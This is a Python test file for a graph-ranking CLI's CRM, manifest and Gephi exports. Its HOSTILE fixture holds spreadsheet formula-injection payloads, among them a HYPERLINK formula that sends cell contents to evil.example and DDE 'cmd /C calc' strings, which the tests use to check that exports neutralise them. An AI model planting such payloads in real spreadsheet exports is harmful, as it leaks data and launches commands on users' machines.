"""CRM files, manifests and Gephi files end to end, read back with independent readers."""

from __future__ import annotations

import csv
import gzip
import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import networkx as nx
import numpy as np
import polars as pl
import pytest
from click.testing import CliRunner, Result

from graphkit.cli.main import cli
from graphkit.data import demo_folder

EPOCH = "1741046400"  # 2025-03-04T00:00:00Z
DAY = "2025-03-04"
HUBSPOT_CONTACT_HEADERS = [
    "Graphkit ID", "First Name", "Last Name", "Email", "Job Title", "Company Name",
    "Website URL", "Graphkit Rank", "Graphkit Handle", "Graphkit Company ID",
    "Graphkit Score", "Graphkit PageRank", "Graphkit Followers", "Graphkit Followers Count",
    "Graphkit Interactions Received", "Graphkit Engagement Rate", "Graphkit Platform",
    "Graphkit Topics", "Graphkit Scored On",
]  # fmt: skip
HOSTILE = {
    # id: (handle, name, title)
    "h1": ("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "@SUM(1+9)*cmd|' /C calc'!A0",
           "+cmd|' /C notepad'!A0"),
    "h2": ("@maya_builds", "\t=1+1", "-2+3+cmd|' /C calc'!A0"),
    "h3": ("plain", "   =IMPORTXML(A1)", "Chief \"Quote\", Officer\nline two"),
    "h4": ("ok", "陈静", "CTO"),
}  # fmt: skip


def run(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner(env={"SOURCE_DATE_EPOCH": EPOCH, **(env or {})}).invoke(
        cli, list(args), prog_name="graphkit", catch_exceptions=False
    )


def read_csv_rows(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
    data.decode("utf-8")  # strict: the whole file is valid UTF-8
    assert data.endswith(b"\r\n")
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def spreadsheet_formula(cell: str) -> bool:
    if cell.startswith("'"):
        return False
    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")


@pytest.fixture
def hostile_dataset(tmp_path: Path) -> Path:
    folder = tmp_path / "hostile"
    folder.mkdir()
    with (folder / "accounts.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "handle", "name", "kind", "title"])
        for account, (handle_, name, title) in HOSTILE.items():
            writer.writerow([account, handle_, name, "person", title])
    with (folder / "follows.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["follower", "followed"])
        writer.writerows([("h1", "h2"), ("h2", "h3"), ("h3", "h4"), ("h4", "h1"), ("h1", "h4")])
    return folder


def test_rank_demo_to_hubspot_reads_back(tmp_path: Path) -> None:
    out = tmp_path / "hubspot.csv"
    result = run("rank", "--demo", "--top", "0", "--crm", "hubspot", "-o", str(out))
    assert result.exit_code == 0, result.output
    contacts_path = tmp_path / "hubspot.contacts.csv"
    companies_path = tmp_path / "hubspot.companies.csv"
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "hubspot.companies.csv", "hubspot.companies.properties.json", "hubspot.contacts.csv",
        "hubspot.contacts.properties.json", "hubspot.csv.manifest.json",
        "hubspot.property-group.json"]  # fmt: skip
    contacts, companies = read_csv_rows(contacts_path), read_csv_rows(companies_path)
    with (demo_folder() / "accounts.csv").open(encoding="utf-8", newline="") as handle:
        accounts = {row["id"]: row for row in csv.DictReader(handle)}
    brands = {key for key, row in accounts.items() if row["kind"] == "brand"}
    assert list(contacts[0]) == HUBSPOT_CONTACT_HEADERS
    assert len(contacts) == len(accounts) - len(brands) == 2_988
    assert len(companies) == len(brands) == 12
    exported = [row["Graphkit ID"] for row in contacts]
    exported += [row["Graphkit Company ID"] for row in companies]
    assert sorted(exported) == sorted(accounts)
    assert {row["Graphkit Company ID"] for row in companies} == brands
    assert {row["Graphkit Scored On"] for row in contacts + companies} == {DAY}
    for row in contacts:
        account = accounts[row["Graphkit ID"]]
        assert " ".join(filter(None, [row["First Name"], row["Last Name"]])) == account["name"]
        assert row["Email"] == account["email"]
        organization = account["organization"]
        assert row["Company Name"] == (accounts[organization]["name"] if organization else "")
    chen = next(row for row in contacts if row["Graphkit ID"] == "u0302")
    assert chen["First Name"] == "陈静"
    # the same scores as the plain ranking, read by polars
    plain = tmp_path / "plain.parquet"
    assert run("rank", "--demo", "--top", "0", "-o", str(plain)).exit_code == 0
    ranking = pl.read_parquet(plain)
    crm = pl.read_csv(contacts_path, schema_overrides={"Graphkit ID": pl.String})
    joined = crm.join(ranking, left_on="Graphkit ID", right_on="id")
    assert joined.height == 2_988
    assert (joined["Graphkit Rank"] == joined["rank"]).all()
    assert np.allclose(joined["Graphkit PageRank"], joined["pagerank"], rtol=1e-12, atol=0)
    # the manifest
    manifest = json.loads((tmp_path / "hubspot.csv.manifest.json").read_text(encoding="utf-8"))
    assert manifest["command"] == ["graphkit", "rank", "--demo", "--top", "0", "--crm",
                                   "hubspot", "-o", str(out)]  # fmt: skip
    assert manifest["parameters"]["crm"] == "hubspot"
    assert manifest["parameters"]["top"] == 0
    assert manifest["seed"] == 0
    inputs = {record["table"]: record for record in manifest["inputs"]}
    assert set(inputs) == {"accounts", "follows", "interactions"}
    for record in inputs.values():
        path = Path(record["path"])
        assert record["bytes"] == path.stat().st_size
        assert record["sha256"] == sha256(path)
    assert manifest["graph"]["nodes"] == 3_000
    outputs = {Path(record["path"]).name: record for record in manifest["outputs"]}
    assert outputs["hubspot.contacts.csv"]["rows"] == 2_988
    assert outputs["hubspot.companies.csv"]["rows"] == 12
    assert manifest["rows"] == 3_000
    for name, record in outputs.items():
        assert record["sha256"] == sha256(tmp_path / name)
        assert record["bytes"] == (tmp_path / name).stat().st_size
    assert manifest["dependencies"]["polars"] == pl.__version__
    assert manifest["crm"]["limits"]["rows_per_file"] == 1_048_575
    assert manifest["formula_guard"] == {"behaviour": "crm", "cells_changed": 0, "cells": []}


def test_salesforce_files_split_at_a_lowered_limit(tmp_path: Path) -> None:
    mapping = tmp_path / "sf.toml"
    mapping.write_text('max_rows = 1000\ndate_format = "%m/%d/%Y"\n', encoding="utf-8")
    out = tmp_path / "out" / "sf.csv"
    out.parent.mkdir()
    result = run("rank", "--demo", "--top", "0", "--crm", "salesforce", "--crm-mapping",
                 str(mapping), "-o", str(out))  # fmt: skip
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in out.parent.iterdir())
    assert names == ["sf.accounts.csv", "sf.accounts.sdl", "sf.contacts-001.csv",
                     "sf.contacts-002.csv", "sf.contacts-003.csv", "sf.contacts.sdl",
                     "sf.csv.manifest.json", "sf.salesforce-fields.zip"]  # fmt: skip
    parts = [read_csv_rows(out.parent / f"sf.contacts-00{n}.csv") for n in (1, 2, 3)]
    assert [len(rows) for rows in parts] == [1_000, 1_000, 988]
    assert all(list(rows[0])[:4] == ["Graphkit ID", "First Name", "Last Name", "Email"]
               for rows in parts)  # fmt: skip
    ranks = [int(row["Graphkit Rank"]) for rows in parts for row in rows]
    assert ranks == sorted(ranks)  # the ranking's order runs on across the parts
    assert all(row["Last Name"] for rows in parts for row in rows)  # Salesforce requires it
    assert {row["Graphkit Scored On"] for rows in parts for row in rows} == {"03/04/2025"}
    polars_rows = sum(pl.read_csv(out.parent / f"sf.contacts-00{n}.csv").height for n in (1, 2, 3))
    assert polars_rows == 2_988
    assert "Wrote 988 contacts to" in result.stderr


@pytest.mark.parametrize("target", ["hubspot", "salesforce"])
def test_hostile_handles_and_names_come_out_inert(
    tmp_path: Path, hostile_dataset: Path, target: str
) -> None:
    out = tmp_path / f"{target}.csv"
    result = run("rank", str(hostile_dataset), "--crm", target, "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = {row["Graphkit ID"]: row for row in read_csv_rows(tmp_path / f"{target}.contacts.csv")}
    assert all(not spreadsheet_formula(cell) for row in rows.values() for cell in row.values())
    handle = "Graphkit Handle"
    title = "Job Title" if target == "hubspot" else "Title"
    assert rows["h1"][handle] == "'" + HOSTILE["h1"][0]
    assert rows["h2"][handle] == "maya_builds"  # the sigil is not part of the handle
    assert rows["h1"][title] == "'" + HOSTILE["h1"][2]
    assert rows["h2"][title] == "'" + HOSTILE["h2"][2]
    assert rows["h3"][title] == HOSTILE["h3"][2]  # quotes, comma and line break intact
    assert rows["h4"]["Last Name" if target == "salesforce" else "First Name"] == "陈静"
    manifest = json.loads((tmp_path / f"{target}.csv.manifest.json").read_text(encoding="utf-8"))
    assert manifest["formula_guard"]["cells_changed"] >= 6
    changed = manifest["formula_guard"]["cells_changed"]
    assert f"Formula guard: {changed} cells changed" in result.stderr


def test_plain_csv_is_guarded_and_export_undoes_it(tmp_path: Path, hostile_dataset: Path) -> None:
    plain = tmp_path / "ranking.csv"
    assert run("rank", str(hostile_dataset), "-o", str(plain)).exit_code == 0
    rows = {row["id"]: row for row in csv.DictReader(plain.open(encoding="utf-8", newline=""))}
    assert all(not spreadsheet_formula(cell) for row in rows.values() for cell in row.values())
    assert rows["h1"]["handle"] == "'" + HOSTILE["h1"][0]
    assert rows["h2"]["name"] == "'" + HOSTILE["h2"][1]
    assert rows["h4"]["name"] == "陈静"
    stdout = run("rank", str(hostile_dataset)).stdout
    assert {row["id"]: row for row in csv.DictReader(stdout.splitlines())}["h1"]["handle"] == (
        "'" + HOSTILE["h1"][0]
    )
    # converting the guarded CSV later gives the same CRM file as exporting directly
    direct, later = tmp_path / "direct.csv", tmp_path / "later.csv"
    assert run("rank", str(hostile_dataset), "--crm", "hubspot", "-o", str(direct)).exit_code == 0
    result = run("export", str(plain), "--crm", "hubspot", "-o", str(later))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "later.contacts.csv").read_bytes() == (
        tmp_path / "direct.contacts.csv"
    ).read_bytes()
    manifest = json.loads((tmp_path / "later.csv.manifest.json").read_text(encoding="utf-8"))
    assert manifest["inputs"][0]["sha256"] == sha256(plain)
    assert manifest["source_manifest"] is None


@pytest.mark.parametrize("suffix", [".parquet", ".json", ".ndjson"])
def test_export_converts_other_formats_and_embeds_the_source_manifest(
    tmp_path: Path, suffix: str
) -> None:
    result_file = tmp_path / f"experts{suffix}"
    args = ["experts", "--demo", "--org", "b001"]
    assert run(*args, "-o", str(result_file), "--manifest").exit_code == 0
    assert run(*args, "--crm", "salesforce", "-o", str(tmp_path / "direct.csv")).exit_code == 0
    result = run("export", str(result_file), "--crm", "salesforce", "-o", str(tmp_path / "x.csv"))
    assert result.exit_code == 0, result.output
    later = read_csv_rows(tmp_path / "x.contacts.csv")
    direct = read_csv_rows(tmp_path / "direct.contacts.csv")
    source = json.loads(Path(f"{result_file}.manifest.json").read_text(encoding="utf-8"))
    manifest = json.loads((tmp_path / "x.csv.manifest.json").read_text(encoding="utf-8"))
    assert manifest["source_manifest"] == source
    assert [row["Graphkit ID"] for row in later] == [row["Graphkit ID"] for row in direct]
    assert len(later) == 40
    assert later[0]["Graphkit Scored On"] == source["created"][:10]
    drop = {"Account Name", "Graphkit Scored On"}  # the result file lacks brand names
    assert [{k: v for k, v in row.items() if k not in drop} for row in later] == [
        {k: v for k, v in row.items() if k not in drop} for row in direct
    ]


def test_plain_output_with_manifest(tmp_path: Path) -> None:
    out = tmp_path / "brands.csv"
    result = run("brands", "--demo", "-o", str(out), "--manifest")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["brands.csv", "brands.csv.manifest.json"]
    manifest = json.loads((tmp_path / "brands.csv.manifest.json").read_text(encoding="utf-8"))
    assert manifest["outputs"][0]["rows"] == pl.read_csv(out).height == 12
    assert manifest["outputs"][0]["sha256"] == sha256(out)


def _demo_edges() -> set[tuple[str, str]]:
    """Distinct (u, v) of the demo's follows and interactions, self-loops dropped, by polars."""
    folder = demo_folder()
    pairs = set()
    for name, columns in (("follows", ("follower", "followed")),
                          ("interactions", ("source", "target"))):  # fmt: skip
        with gzip.open(folder / f"{name}.csv.gz") as handle:
            table = pl.read_csv(handle.read(), schema_overrides=dict.fromkeys(columns, pl.String))
        pairs |= {(u, v) for u, v in table.select(columns).iter_rows() if u != v}
    return pairs


@pytest.mark.slow
def test_rank_writes_the_top_n_subgraph_for_gephi(tmp_path: Path) -> None:
    out = tmp_path / "top.gexf"
    result = run("rank", "--demo", "--communities", "--top", "100", "-o", str(out))
    assert result.exit_code == 0, result.output
    graph = nx.read_gexf(out)
    ranking = pl.read_parquet(_ranking(tmp_path, "--communities", "--top", "100"))
    top = set(ranking["id"])
    assert set(graph.nodes) == top
    expected = {(u, v) for u, v in _demo_edges() if u in top and v in top}
    assert set(graph.edges) == expected
    for row in ranking.iter_rows(named=True):
        node = graph.nodes[row["id"]]
        assert (node["rank"], node["community"], node["label"]) == (
            row["rank"], row["community"], row["name"])  # fmt: skip
    relations = {data["relation"] for *_, data in graph.edges(data=True)}
    assert relations <= {"follow", "interaction", "follow+interaction"}
    assert len(relations) == 3
    manifest = json.loads((tmp_path / "top.gexf.manifest.json").read_text(encoding="utf-8"))
    assert manifest["outputs"][0]["nodes"] == 100
    assert manifest["outputs"][0]["edges"] == len(expected)
    assert f"Wrote 100 accounts and {len(expected):,} edges" in result.stderr


def _ranking(tmp_path: Path, *options: str) -> Path:
    path = tmp_path / "ranking.parquet"
    assert run("rank", "--demo", *options, "-o", str(path)).exit_code == 0
    return path


@pytest.mark.slow
def test_communities_write_the_whole_graph_as_graphml(tmp_path: Path) -> None:
    out = tmp_path / "all.graphml"
    result = run("communities", "--demo", "-o", str(out))
    assert result.exit_code == 0, result.output
    graph = nx.read_graphml(out)
    assert graph.number_of_nodes() == 3_000
    assert set(graph.edges) == _demo_edges()
    sizes: dict[int, int] = {}
    for _, data in graph.nodes(data=True):
        sizes[data["community"]] = sizes.get(data["community"], 0) + 1
        assert isinstance(data["is_leader"], bool)
    assert len(sizes) == 6  # the 6 communities the README reports
    assert all(data["community_size"] == sizes[data["community"]]
               for _, data in graph.nodes(data=True))  # fmt: skip


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["rank", "--demo", "--crm", "hubspot"], "--crm writes CSV import files: give -o FILE.csv"),
        (["rank", "--demo", "--crm", "hubspot", "-o", "x.parquet", "--format", "parquet"],
         "--crm writes CSV import files: give -o FILE.csv"),
        (["rank", "--demo", "--crm-mapping", "m.toml", "-o", "x.csv"],
         "--crm-mapping goes with --crm"),
        (["rank", "--demo", "--manifest"], "--manifest goes with -o FILE"),
        (["experts", "--demo", "--org", "b001", "-o", "x.gexf"],
         "Gephi files (.gexf, .graphml) come from graphkit rank and graphkit communities"),
        (["rank", "--demo", "--crm", "zoho", "-o", "x.csv"], "Invalid value for '--crm'"),
    ],
)  # fmt: skip
def test_option_errors_exit_2_and_write_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = run(*args, "-q")
    assert result.exit_code == 2
    assert message in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_export_errors_name_the_file(tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("score\n1\n", encoding="utf-8")
    result = run("export", str(bad), "--crm", "hubspot", "-o", str(tmp_path / "x.csv"))
    assert result.exit_code == 1
    assert result.stderr.strip().splitlines()[-1] == (
        "Error: the table has no id column: CRM exports take the results of rank, experts or brands"
    )
    result = run("export", str(tmp_path / "nope.csv"), "--crm", "hubspot", "-o", "x.csv")
    missing = tmp_path / "nope.csv"
    assert result.stderr.strip().splitlines()[-1] == f"Error: {missing}: file not found"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.csv"]


def test_export_help_has_examples() -> None:
    result = run("export", "--help")
    assert result.exit_code == 0
    assert "Examples:" in result.output
    assert "graphkit export ranking.csv --crm hubspot" in result.output


@pytest.fixture(scope="module")
def large_dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """200,000 accounts with names and 400,000 follows: an export that takes a while."""
    folder = tmp_path_factory.mktemp("large")
    rng = np.random.default_rng(3)
    ids = np.array([f"acct{i:06d}" for i in range(200_000)])
    names = [f"First{i} Last{i}" for i in range(200_000)]
    accounts = pl.DataFrame({"id": ids, "name": names, "kind": "person", "title": "Engineer"})
    accounts.write_csv(folder / "accounts.csv")
    edges = rng.integers(0, ids.shape[0], size=(400_000, 2))
    pl.DataFrame({"follower": ids[edges[:, 0]], "followed": ids[edges[:, 1]]}).write_csv(
        folder / "follows.csv"
    )
    return folder


def _open_files_in(pid: int, folder: Path) -> bool:
    prefix = str(folder) + os.sep
    try:
        links = [str(fd.readlink()) for fd in Path(f"/proc/{pid}/fd").iterdir()]
    except OSError:  # the process is gone, or a descriptor closed between list and read
        return False
    return any(link.startswith(prefix) for link in links)


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="watches /proc/PID/fd")
@pytest.mark.parametrize(
    "options",
    [
        pytest.param(["--crm", "hubspot", "--crm-mapping", "{mapping}", "-o", "{out}/x.csv"],
                     id="crm-split"),
        pytest.param(["-o", "{out}/x.gexf"], id="gexf"),
        pytest.param(["-o", "{out}/x.csv"], id="plain-csv"),
    ],
)  # fmt: skip
def test_sigkill_mid_export_leaves_no_file(
    tmp_path: Path, large_dataset: Path, options: list[str]
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    mapping = tmp_path / "small.toml"
    mapping.write_text("max_rows = 1000\n", encoding="utf-8")
    args = [a.format(mapping=mapping, out=out) for a in options]
    command = [
        sys.executable,
        "-m",
        "graphkit.cli.main",
        "rank",
        str(large_dataset),
        "--top",
        "0",
        "-q",
    ]
    process = subprocess.Popen([*command, *args], cwd=Path(__file__).resolve().parents[2],
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)  # fmt: skip
    deadline = time.monotonic() + 120
    try:
        while not _open_files_in(process.pid, out):
            assert process.poll() is None, process.stderr.read().decode() if process.stderr else ""
            assert time.monotonic() < deadline, "the export never started writing"
            time.sleep(0.001)
        process.send_signal(signal.SIGKILL)  # it is writing into out/ now
        assert process.wait(timeout=30) == -signal.SIGKILL
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert list(out.iterdir()) == [], "a killed export must leave no file, partial or temporary"


def test_export_takes_the_crm_options_and_the_manifest_lists_the_definitions(
    tmp_path: Path,
) -> None:
    ranking = tmp_path / "ranking.csv"
    assert run("rank", "--demo", "--top", "30", "-o", str(ranking)).exit_code == 0
    out = tmp_path / "sf.csv"
    result = run("export", str(ranking), "--crm", "salesforce", "--crm-object", "leads",
                 "--crm-owner", "bob@example.com", "-o", str(out))  # fmt: skip
    assert result.exit_code == 0, result.output
    leads = read_csv_rows(tmp_path / "sf.leads.csv")
    assert {row["Owner Username"] for row in leads} == {"bob@example.com"}
    assert all(row["Company"] for row in leads)
    manifest = json.loads((tmp_path / "sf.csv.manifest.json").read_text(encoding="utf-8"))
    kinds = {Path(record["path"]).name: record["kind"] for record in manifest["outputs"]}
    assert kinds == {"sf.leads.csv": "import", "sf.accounts.csv": "import",
                     "sf.salesforce-fields.zip": "definition", "sf.leads.sdl": "mapping",
                     "sf.accounts.sdl": "mapping"}  # fmt: skip
    for name in kinds:
        record = next(r for r in manifest["outputs"] if Path(r["path"]).name == name)
        assert record["sha256"] == sha256(tmp_path / name)
    assert manifest["crm"]["people_object"] == "leads"
    assert "Before the first import, create: " in result.stderr
